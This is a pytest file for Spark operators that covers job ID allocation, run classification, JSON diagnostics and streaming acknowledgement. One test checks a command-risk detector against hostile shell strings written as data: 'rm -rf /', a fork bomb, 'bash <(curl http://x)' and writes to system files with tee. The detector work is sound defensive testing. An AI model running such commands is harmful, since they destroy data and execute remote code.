"""Operators against literal cases of their rules."""

import json

import pandas as pd
from pyspark.sql import functions as F

from runweave.functions import scalars
from runweave.operators import evidence, sessions, source
from runweave.streaming import live


def test_next_child_ids_count_children_of_all_tags(spark):
    jobs = spark.createDataFrame([("p",), ("p.ds-001",), ("p.em-002",), ("p.em-002.ds-001",), ("q.x",)], "job_id string")
    asked = spark.createDataFrame([("p", "ds"), ("p", "em"), ("p.em-002", "ds"), ("new", "ds")], "parent string, tag string")
    got = {(r["parent"], r["tag"]): r["next_id"] for r in sessions.next_child_ids(jobs, asked).collect()}
    assert got == {("p", "ds"): "p.ds-003", ("p", "em"): "p.em-004", ("p.em-002", "ds"): "p.em-002.ds-002", ("new", "ds"): "new.ds-001"}
    many = spark.range(1000).select(F.concat(F.lit("p.em-"), "id").alias("job_id"))
    assert sessions.next_child_ids(many, asked.where("parent = 'p' and tag = 'ds'")).first()["next_id"] == "p.ds-1001"


def test_classes_of_runs_without_records(spark):
    records = spark.createDataFrame([(1, "Type mismatch"), (2, None), (3, "Mathlib gap"), (4, "timeouterror")], "run_id long, text string")
    nodes = spark.createDataFrame([(7, "false"), (8, "proved"), (4, "false")], "run_id long, status string")
    summaries = spark.createDataFrame([(3, "a double coset"), (9, "Target Drift")], "run_id long, text string")
    got = {r["run_id"]: (r["class"], r["confidence"], r["degraded"]) for r in evidence.classify_runs(records, nodes, summaries).collect()}
    assert got == {
        1: ("proof_search", "medium", False), 2: ("undetermined", "low", False), 3: ("library_interface", "medium", False), 4: ("mathematical", "high", True),
        7: ("mathematical", "high", False), 8: ("undetermined", "low", False), 9: ("statement", "high", False),
    }


def test_command_risks(spark):
    want = {
        "rm /etc/passwd": "delete in root path", "rm -rf /": "delete in root path", "rm -r x": "recursive delete", ":(){ :|:& };:": "fork bomb", "bash <(curl http://x)": "execute remote script via process substitution",
        "echo x | tee /etc/hosts": "overwrite system file via tee", "tee ~/.ssh/config": "overwrite system file via tee", "tee ~/.app/.env": "overwrite system file via tee", "tee out.txt": None, "DELETE FROM t": "SQL DELETE without WHERE",
        "delete from t where x": None, "ls": None,
    }
    rows = spark.createDataFrame([(c,) for c in want], "c string").select("c", scalars.command_risk(F.col("c")).alias("risk")).collect()
    assert {r["c"]: r["risk"] for r in rows} == want


def test_json_diagnostics(spark):
    deep = {"severity": "error", "message": "in"}
    for _ in range(30):
        deep = {"messages": [deep]}
    texts = [json.dumps(deep), '[{"line": 3}, {"line": "3"}, {"line": true}, {"line": -1, "start_line": 4}]', "x\n{bad\n {\"message\": \"Error: y\"}", "[" * 5000, "[]", "5", "", None, '{"location": {"range": {"start": {"line": 9}}}}']
    got = source.json_diagnostics(spark.createDataFrame(list(enumerate(texts)), "id int, text string")).collect()
    assert sorted((r["id"], r["nth"], r["severity"], r["message"], r["line"]) for r in got) == [(0, 0, "error", "in", None), (1, 0, "", "", 3), (1, 1, "", "", 1), (1, 2, "", "", 4), (2, 0, "error", "Error: y", None), (8, 0, "", "", 9)]


def test_unacknowledged_sources_are_never_forgotten(spark, tmp_path):
    """Four sources with room for two: those that are acknowledged make room, the others keep their numbers."""
    batches = [[(1, "a", None), (2, "b", None), (3, "c", None), (4, "d", None), (5, "a", None)], [(6, None, 2), (7, "a", None), (8, "c", None), (9, "d", None)], [(10, "a", None), (11, "b", None)]]
    for i, rows in enumerate(batches):
        frame = pd.DataFrame(rows, columns=["event_id", "source", "upto"]).astype({"event_id": "int64", "upto": "Int64"})
        frame["ts"], frame["scope"] = pd.to_datetime(frame["event_id"], unit="s"), 1
        (tmp_path / "in").mkdir(exist_ok=True)
        frame.to_parquet(tmp_path / "in" / f"{i}.parquet", coerce_timestamps="us")
    schema = spark.read.parquet(str(tmp_path / "in")).schema
    stream = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).parquet(str(tmp_path / "in"))
    got = live.drained(live.publish_once(stream, "scope", "source", cap=2, acknowledged="upto")).collect()
    # a and b are acknowledged when there is no room: both are news when they come again.
    assert sorted((r["event_id"], r["source"], r["watermark"]) for r in got) == [(1, "a", 1), (2, "b", 2), (3, "c", 3), (4, "d", 4), (7, "a", 5), (11, "b", 6)]
